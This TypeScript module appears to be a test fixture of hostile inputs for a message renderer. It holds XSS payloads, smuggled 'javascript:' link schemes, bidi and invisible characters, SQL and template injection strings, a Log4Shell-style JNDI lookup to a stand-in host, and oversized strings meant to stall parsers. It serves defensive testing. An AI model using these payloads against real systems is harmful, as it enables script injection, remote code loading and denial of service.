/** Texts by somebody who means harm, or whose program is broken, for wherever a text of others is shown. */

/** Addresses that lead nowhere one would want to go, in the spellings by which they are smuggled. */
const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\u0001javascript:',
  'java\tscript:',
  'java\0script:',
  'vbscript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript&#58;',
  '%6Aavascript:',
  'data:text/html,',
  'data:text/html;base64,PHN2Zz4',
  'file:///',
  'blob:https://a.b/',
  '//evil.example/',
  '\\\\evil.example\\',
  'feed:javascript:',
].map((scheme) => `${scheme}alert(1)`)

const links = [
  '[a](@)',
  '[a](<@>)',
  '![a](@)',
  '[a](@ "t")',
  '<@>',
  '@',
  '[a]: @\n\n[a]',
  '[a][b]\n\n[b]: @',
  '[![a](@)](@)',
  '**[a](@)**',
  '||[a](@)||',
  '> [a](@)',
  '- [a](@)',
  '|[a](@)|\n|-|\n|[a](@)|',
  '[a](https://x.y@)',
]

const tags = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)',
  '<iframe src=x>',
  '<style>*{background:url(//e.x)}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mi xlink:href="data:x">',
  '<!--><img>',
  '<base href=//e.x>',
  '<meta http-equiv=refresh content=0>',
  '<form action=//e.x><button>',
  '"><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>',
]
const around = [
  '@',
  '**@**',
  '`@`',
  '||@||',
  '> @',
  '# @',
  '```@\nx\n```',
  '[@](https://a.b/@)',
  '![@](https://a.b "@")',
  '<@__proto__> @',
]

/** What every object inherits. */
const inherited = ['__proto__', 'constructor', 'toString', 'hasOwnProperty']

/** Every such address in every link, every tag in every mark. */
export const crossed: readonly string[] = [
  ...addresses.flatMap((address) => links.map((link) => link.replaceAll('@', address))),
  ...tags.flatMap((tag) => around.map((mark) => mark.replaceAll('@', tag))),
  ...inherited.flatMap((name) => [`<@${name}>`, `\`\`\`${name}\nx\n\`\`\``, `[${name}]`, `[a](${name})`]),
  '[a](https://b.c" onclick="alert(1))',
  "[a](https://b.c' style='x)",
]

const sign = (code: number) => String.fromCodePoint(code)
/** Turns what follows around, is not there to see, or lies on what is beside it. */
const unseen = [0x61c, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b, 0x202d, 0x202e, 0x2060, 0x2066, 0x2067]
const more = [0x2028, 0x2029, 0xad, 0x115f, 0x3164, 0xe0041, 0xfe0f, 0xfeff, 0xfffc, 0xffff, 0x1f3fb, 0xd7ff]
const piled = (height: number) => `z${Array.from({ length: height }, (_, i) => sign(0x300 + (i % 0x6f))).join('')}a`

const odd = [
  ...[...unseen, ...more].flatMap((code) => [`gnp${sign(code)}exe.photo`, sign(code).repeat(20), `${sign(code)}<b>x`]),
  `${sign(0x202e)}${sign(0x2066)}moc.elpmaxe//:sptth`,
  piled(20),
  `${piled(100)} `.repeat(2),
  'شاهد https://a.b/ مرحبا **غامق** `كود` (1) [2]',
  'עברית <b>x</b> > ציטוט',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= 7*7 %>',
  "';alert(String.fromCharCode(88))//",
  '`-alert(1)-`',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  'x" style="position:fixed;inset:0',
  'x onmouseover=alert(1) y',
  '/r/../../api/sign-out',
  '\\\\\\\\',
  "' OR 1=1 --",
  '${"$"}{jndi:ldap://evil.example/a}',
  '🏳️‍🌈👩‍👩‍👧‍👦🇩🇪',
]

const each = (all: readonly string[], n: number) => all.filter((_, i) => i % n === 0)

/** About three hundred that are short enough for any message: each address, tag and odd sign in some of its forms. */
export const hostile: readonly string[] = [...new Set([...each(crossed, 2), ...odd])]

/** As long as `size` allows: what costs a careless program its time, and what breaks its page apart. */
export const large = (size: number): Readonly<Record<string, string>> => {
  const fill = (part: string) => part.repeat(Math.floor(size / part.length))
  const rows = Math.floor(Math.sqrt(size))
  return {
    'one word': fill('x'),
    'one word of emoji': fill('👩‍👩‍👧‍👦'),
    'one word from right to left': fill('ש'),
    'signs on one letter': `z${fill('\u0301').slice(1)}`,
    links: fill('https://a.b/ '),
    'short links': fill('www.a.b '),
    'links in links': fill('[a](https://b.c '),
    'addresses of people': fill('a@b.com'),
    brackets: fill('['),
    quotes: fill('>'),
    'quotes in quotes': fill('> > '),
    emphasis: fill('*a **b '),
    stars: fill('*'),
    underscores: fill('_a'),
    spoilers: fill('||a'),
    lists: fill('- a\n'),
    'deep lists': Array.from({ length: rows }, (_, i) => `${'  '.repeat(i / 3)}- a`)
      .join('\n')
      .slice(0, size),
    'a table': `|a|b|\n|-|-|\n${fill('|a|b|\n').slice(14)}`,
    'a wide table': `${'|a'.repeat(size / 4 - 1)}\n${'|-'.repeat(size / 4 - 1)}`,
    'a fence that never ends': `\`\`\`js\n${fill('a = [b(c)] // d\n').slice(6)}`,
    'runs of backticks': Array.from({ length: Math.sqrt(size * 2) - 2 }, (_, i) => '`'.repeat(i))
      .join(' ')
      .slice(0, size),
    backslashes: fill('\\'),
    mentions: fill('<@abc> '),
    lines: fill('\n').slice(1).concat('a'),
    spaces: `a${fill(' ').slice(2)}b`,
    tags: fill('<b onclick=alert(1)>'),
    tildes: fill('~~a'),
    'aaaa!': `${fill('a').slice(1)}!`,
    headings: fill('# a\n'),
  }
}
